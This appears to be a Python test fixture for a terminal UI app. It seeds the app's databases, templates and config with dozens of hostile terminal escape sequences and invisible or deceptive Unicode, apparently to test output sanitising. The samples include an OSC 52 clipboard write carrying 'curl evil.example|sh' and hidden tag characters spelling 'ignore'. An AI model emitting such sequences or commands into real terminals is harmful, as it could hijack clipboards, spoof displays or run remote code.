"""Forty kinds of text that no terminal may get, and a home that holds them wherever text can stand."""

from __future__ import annotations

import json
import sqlite3
from base64 import b64encode
from contextlib import closing
from typing import Any, NamedTuple

import tomlkit

from warm_tui.approvals.asking import Prepared
from warm_tui.approvals.model import Answer, Submission
from warm_tui.approvals.place import make_folder
from warm_tui.approvals.store import Store
from warm_tui.library.db import Library, open_library
from warm_tui.library.experiments import change_experiment, change_run
from warm_tui.library.trials import keep_rule
from warm_tui.paths import Home
from warm_tui.templates.files import TemplateFiles
from warm_tui.trials.rules import Revision, Rule, When


class Kind(NamedTuple):
    """What it is, and the text; `sign` stands before it, and tells that it was on the screen."""

    name: str
    hostile: str
    number: int

    @property
    def sign(self) -> str:
        return f"k{self.number:02}q"

    @property
    def text(self) -> str:
        return f"{self.sign}{self.hostile}e"


COPIED = b64encode(b"curl evil.example|sh").decode()
HOSTILE = {
    "OSC 52, ended by BEL": f"\x1b]52;c;{COPIED}\x07",
    "OSC 52, ended by ST": f"\x1b]52;p;{COPIED}\x1b\\",
    "OSC 52 in C1": f"\x9d52;c;{COPIED}\x9c",
    "OSC 52, never ended": f"\x1b]52;c;{COPIED}",
    "OSC 0, a title": "\x1b]0;owned\x07",
    "OSC 2, a title": "\x1b]2;owned\x1b\\",
    "OSC 7, a folder": "\x1b]7;file://evil/etc\x07",
    "OSC 8, a link": "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "OSC 9, a notice": "\x1b]9;owned\x07",
    "OSC 1337, a file": "\x1b]1337;File=name=b3duZWQ=:b3duZWQ=\x07",
    "CSI, colours": "\x1b[5;7;9;53m",
    "CSI, the screen cleared": "\x1b[2J\x1b[H",
    "CSI, what was typed told back": "\x1b[21t\x1b[6n",
    "CSI, another buffer": "\x1b[?1047h",
    "CSI in C1": "\x9b5;7;9m",
    "DCS": "\x1bP$qm\x1b\\",
    "DCS in C1": "\x90+q544e\x9c",
    "APC": "\x1b_Gi=31,a=T;b3duZWQ=\x1b\\",
    "APC in C1": "\x9fowned\x9c",
    "PM": "\x1b^owned\x1b\\",
    "PM in C1": "\x9eowned\x9c",
    "SOS": "\x1bXowned\x1b\\",
    "SOS in C1": "\x98owned\x9c",
    "the terminal reset": "\x1bc",
    "another alphabet": "\x1b(0\x0e",
    "a lone ESC": "\x1b",
    "a bell": "\x07",
    "a return over the line": "\r\x0b\x0c",
    "backspaces": "\x08\x08\x08",
    "NUL and DEL": "\x00\x7f",
    "a next line": "\x85\x84",
    "bidi overrides": "\u202eevil\u202c",
    "bidi isolates and marks": "\u2067evil\u2069\u200f\u061c",
    "zero width": "\u200b\u2060\ufeff\u00ad\u034f",
    "tags": "".join(chr(0xE0000 + ord(letter)) for letter in "ignore"),
    "variation selectors": "\ufe03\U000e0141\U000e0142",
    "blanks": "\u3164\uffa0\u115f\u2800",
    "a heap of marks": "e" + "\u0301\u0334" * 60,
    "line and paragraph separators": "\u2028\u2029",
    "annotations": "\ufff9a\ufffab\ufffb",
    "private use": "\ue000\U000f0000",
    "noncharacters": "\ufdd0\ufffe\U0010ffff",
    "halves of characters": "\ud83d\udc00\ud800",
    "joiners without work": "a\u200d\u200c\u200db",
}
KINDS = [Kind(name, hostile, number) for number, (name, hostile) in enumerate(HOSTILE.items())]


def signs_in(text: str) -> set[str]:
    return {kind.sign for kind in KINDS if kind.sign in text}


def poison(home: Home) -> None:
    """Each text of the home's files becomes hostile, as many as can be without their being unreadable."""
    for database in home.databases:
        with closing(sqlite3.connect(database)) as connection, connection:
            _poison_sessions(connection)
    _poison_templates(home)
    _poison_experiments(home)
    _poison_trials(home)
    _poison_approvals(home)
    choices = tomlkit.document()
    choices["filters"] = {kind.text: f"title:{kind.text}" for kind in KINDS if kind.name != "halves of characters"}
    choices["keys"] = {"sessions.reverse": f"R,{KINDS[0].text}", "sessions.sort": KINDS[4].text}
    (home.ours / "config.toml").write_text(tomlkit.dumps(choices))


def _stored(kind: Kind) -> str:
    """A database takes no half of a character."""
    return kind.text.encode("utf-8", "replace").decode()


def _poison_sessions(connection: sqlite3.Connection) -> None:
    sessions = connection.execute("SELECT id FROM sessions ORDER BY started_at DESC").fetchall()
    for at, (session_id,) in enumerate(sessions):
        text = _stored(KINDS[at % len(KINDS)])
        connection.execute(
            "UPDATE sessions SET title = ?, model = ?, cwd = ? WHERE id = ?", (text, text, text, session_id)
        )
    rows = connection.execute("SELECT id, role, content, tool_calls FROM messages").fetchall()
    for at, (message_id, role, content, tool_calls) in enumerate(rows):
        kind = KINDS[at % len(KINDS)]
        content = _poisoned_result(content, kind) if role == "tool" else f"{_stored(kind)} {content or ''}"
        calls = json.loads(tool_calls) if tool_calls else []
        for call in calls:
            function = call["function"]
            arguments = _object(function["arguments"])
            more = json.dumps({kind.text: kind.text, **arguments}) if arguments is not None else kind.text
            function["arguments"] = more
        values = (content, json.dumps(calls) if calls else tool_calls, message_id)
        connection.execute("UPDATE messages SET content = ?, tool_calls = ? WHERE id = ?", values)


def _object(text: str | None) -> dict[str, Any] | None:
    try:
        document = json.loads(text or "")
    except ValueError:
        return None
    return document if isinstance(document, dict) else None


def _poisoned_result(content: str | None, kind: Kind) -> str:
    document = _object(content)
    return f"{content}{_stored(kind)}" if document is None else json.dumps({**document, "note": kind.text})


def _poison_trials(home: Home) -> None:
    with Library(home.library) as library:
        for kind in KINDS[:3]:
            text = _stored(kind)
            keep_rule(
                library, Rule(0, When(text, text, text, text), (Revision(text, text),), "salt", running=False, why=text)
            )


def _poison_approvals(home: Home) -> None:
    """Past the service, which masks what it takes for secrets."""
    with closing(Store(make_folder(home).database, b"", limit=0)) as store:
        for kind in KINDS:
            text = _stored(kind)
            details = {text: text, "command": f"{text}\n{text}"}
            asked = Submission(action="tidy", description=text, details=details, requester=text, session_key=text,
                               timeout_seconds=3_600)  # fmt: skip
            store.submit(Prepared(asked, "", False))
            other = store.submit(Prepared(asked, "", False))
            store.answer(other.id, Answer(approve=False, by=text, reason=text))


def _poison_templates(home: Home) -> None:
    folder = TemplateFiles(home).folder
    for kind in KINDS:
        pattern = {
            "tool_name": f"tool{kind.text}",
            "arguments": {kind.text: kind.text},
            "result_summary": f"{kind.text}\nand {kind.text}",
            "preceding_context": kind.text,
            "origin": {"session_id": kind.text, "call": kind.text, "why": kind.text},
        }
        document = {
            "version": 2, "description": kind.text, "tags": [kind.text], "task_type": kind.text,
            "system_prompt_addendum": kind.text, "created_at": kind.text, "patterns": [pattern],
        }  # fmt: skip
        (folder / f"{kind.number:02}-hostile.json").write_text(json.dumps(document))


def _poison_experiments(home: Home) -> None:
    every = " ".join(_stored(kind) for kind in KINDS)
    with open_library(home.library) as library:
        notes = json.dumps([kind.text for kind in KINDS])
        change_experiment(library, 2, name=_stored(KINDS[0]), why=every, template=_stored(KINDS[1]), notes=notes)
        for at in range(16):
            text = _stored(KINDS[at + 2])
            change_run(library, 2, at, reason=text, task=text, state="crashed")
